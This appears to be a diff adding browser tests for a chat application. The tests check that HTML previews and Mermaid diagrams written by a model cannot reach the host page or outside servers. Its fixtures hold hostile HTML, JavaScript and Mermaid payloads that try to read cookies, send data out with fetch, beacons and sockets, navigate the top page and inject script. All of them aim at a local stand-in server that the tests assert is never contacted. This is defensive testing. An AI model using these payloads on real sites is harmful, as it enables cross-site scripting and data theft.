@@ -1,0 +1,175 @@
+"""The frames of diagrams and previews: what a model wrote in them reaches neither the page nor any server."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import AsyncIterator
+
+import pytest_asyncio
+from playwright.async_api import Browser, Frame, expect
+
+from tests.browser.person import Person
+from tests.browser.test_chat import reply
+from tests.support.server import Server
+from tests.wire.server import WireServer
+
+HOSTILE = """```html
+<!doctype html>
+<link rel="preconnect" href="{there}/preconnect">
+<link rel="stylesheet" href="{there}/style">
+<link rel="prefetch" href="{there}/prefetch">
+<script src="{there}/script"></script>
+<script type="module">import("{there}/module").catch(() => {{}})</script>
+<img src="{there}/image"><video src="{there}/video"></video><object data="{there}/object"></object>
+<iframe src="{there}/frame"></iframe><iframe srcdoc="<script>top.document.title = 'taken'</script>"></iframe>
+<form action="{there}/form" method="post"><button id="send">Send</button></form>
+<a id="link" href="{there}/link" target="_blank" ping="{there}/ping">Link</a>
+<a id="above" href="{there}/above" target="_top">Above</a>
+<style>body {{ background: url({there}/background) }} @import url({there}/import);</style>
+<p id="results"></p>
+<script>
+window.results = {{}};
+const attempt = async (name, act) => {{
+  try {{ results[name] = String(await act()); }} catch (error) {{ results[name] = error.name; }}
+}};
+(async () => {{
+  await attempt("fetch", () => fetch("{there}/fetch", {{ mode: "no-cors" }}));
+  await attempt("own server", () => fetch("{here}/rail"));
+  await attempt("page", () => parent.document.title);
+  await attempt("top", () => top.document.cookie);
+  await attempt("cookie", () => document.cookie);
+  await attempt("storage", () => localStorage.length);
+  await attempt("navigate top", () => {{ top.location = "{there}/top"; return top.location.href; }});
+  await attempt("socket", () => new Promise((good, bad) => {{
+    const socket = new WebSocket("{socket}/socket");
+    socket.onopen = good; socket.onerror = () => bad(new Error("closed"));
+  }}));
+  await attempt("worker", () => new Promise((good, bad) => {{
+    const worker = new Worker(URL.createObjectURL(new Blob(["fetch('{there}/worker'); postMessage(1)"])));
+    worker.onmessage = good; worker.onerror = () => bad(new Error("refused"));
+  }}));
+  await attempt("window", () => window.open("{there}/window"));
+  await attempt("rtc", () => typeof RTCPeerConnection + typeof webkitRTCPeerConnection + typeof WebTransport);
+  await attempt("nested", () => {{
+    const frame = document.body.appendChild(document.createElement("iframe"));
+    return typeof frame.contentWindow.RTCPeerConnection;
+  }});
+  navigator.sendBeacon("{there}/beacon", "x");
+  parent.postMessage({{ type: "send", height: 5 }}, "*");
+  parent.postMessage({{ error: "made up" }}, "*");
+  send.click(); link.click(); above.click();
+  document.querySelector("#results").textContent = "done";
+}})();
+</script>
+```"""
+LEAVING = """```html
+<p>Leaving</p>
+<script>setTimeout(() => { location.href = "THERE/navigation?secret" }, 0)</script>
+```"""
+DIAGRAM = """```mermaid
+%%{init: {"securityLevel": "loose", "themeCSS": "svg { background: url(THERE/e) } @import url(THERE/f);"}}%%
+graph TD
+  A["<img src=x onerror=fetch('THERE/a')><script>fetch('THERE/b')</script>Start"] --> B[End]
+  click A href "javascript:fetch('THERE/c')"
+  click B href "THERE/d"
+```"""
+
+
+class Elsewhere:
+    """A server that must not be called: counts its connections and their requests."""
+
+    def __init__(self) -> None:
+        self.calls: list[bytes] = []
+        self.address = ""
+
+    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        self.calls.append(b"connected")
+        self.calls.append(await reader.readline())
+        writer.write(b"HTTP/1.0 204 No Content\r\n\r\n")
+        writer.close()
+
+    async def was_not_called(self) -> None:
+        """Call it after all else, which shows that it can be called."""
+        reader, writer = await asyncio.open_connection("127.0.0.1", int(self.address.rpartition(":")[2]))
+        writer.write(b"GET /control\r\n")
+        await reader.read()
+        writer.close()
+        assert self.calls == [b"connected", b"GET /control\r\n"]
+
+
+@pytest_asyncio.fixture(loop_scope="session")
+async def elsewhere() -> AsyncIterator[Elsewhere]:
+    calls = Elsewhere()
+    listener = await asyncio.start_server(calls.answer, "127.0.0.1", 0)
+    calls.address = f"http://127.0.0.1:{listener.sockets[0].getsockname()[1]}"
+    yield calls
+    listener.close()
+
+
+@pytest_asyncio.fixture(loop_scope="session")
+async def bea(browser: Browser, server: Server) -> Person:
+    """A user whose console may complain: the browser reports what it refuses."""
+    return await Person.in_a_session(browser, server.link)
+
+
+async def inside(person: Person, address: str) -> Frame:
+    element = await person.page.locator(f"iframe[src='{address}']").element_handle()
+    frame = await element.content_frame()
+    assert frame
+    await frame.wait_for_load_state()
+    return frame
+
+
+async def answered(person: Person, model: WireServer, text: str) -> None:
+    model.script(reply(text))
+    await person.say("Show me")
+    await expect(person.answers).to_have_attribute("data-status", "complete")
+
+
+async def test_preview_reaches_neither_the_page_nor_a_server(
+    bea: Person, server: Server, model: WireServer, elsewhere: Elsewhere
+) -> None:
+    """MSG-12: every way out fails, and nothing arrives at another server."""
+    socket = elsewhere.address.replace("http", "ws")
+    await answered(bea, model, HOSTILE.format(there=elsewhere.address, here=server.address, socket=socket))
+    title = await bea.page.title()
+    await bea.answers.get_by_role("button", name="Preview").click()
+    frame = await inside(bea, "/frames/preview")
+    await expect(frame.locator("#results")).to_have_text("done")
+    assert await frame.evaluate("results") == {
+        "fetch": "TypeError",
+        "own server": "TypeError",
+        "page": "SecurityError",
+        "top": "SecurityError",
+        "cookie": "SecurityError",
+        "storage": "SecurityError",
+        "navigate top": "SecurityError",
+        "socket": "Error",
+        "worker": "Error",
+        "window": "null",
+        "rtc": "undefinedundefinedundefined",
+        "nested": "SecurityError",
+    }
+    assert (await bea.page.title(), len(bea.page.context.pages)) == (title, 1)
+    await elsewhere.was_not_called()
+
+
+async def test_preview_that_leaves_for_another_address_goes_nowhere(
+    bea: Person, model: WireServer, elsewhere: Elsewhere
+) -> None:
+    """MSG-12: the page's policy forbids what the frame's own cannot."""
+    await answered(bea, model, LEAVING.replace("THERE", elsewhere.address))
+    async with bea.page.expect_event("console", lambda message: "frame-src" in message.text):
+        await bea.answers.get_by_role("button", name="Preview").click()
+    await elsewhere.was_not_called()
+
+
+async def test_diagram_runs_nothing_that_a_model_wrote(bea: Person, model: WireServer, elsewhere: Elsewhere) -> None:
+    """MSG-12: labels, links and styles of a diagram stay what they are."""
+    await answered(bea, model, DIAGRAM.replace("THERE", elsewhere.address))
+    await expect(bea.answers.locator("iframe.diagram")).to_be_visible()
+    frame = await inside(bea, "/frames/diagram")
+    await expect(frame.locator("svg").first).to_contain_text("Start")
+    assert await frame.locator("svg script, svg [onerror], svg [href^='javascript']").count() == 0
+    assert await frame.evaluate("fetch(location.href).catch((error) => error.name)") == "TypeError"
+    await elsewhere.was_not_called()
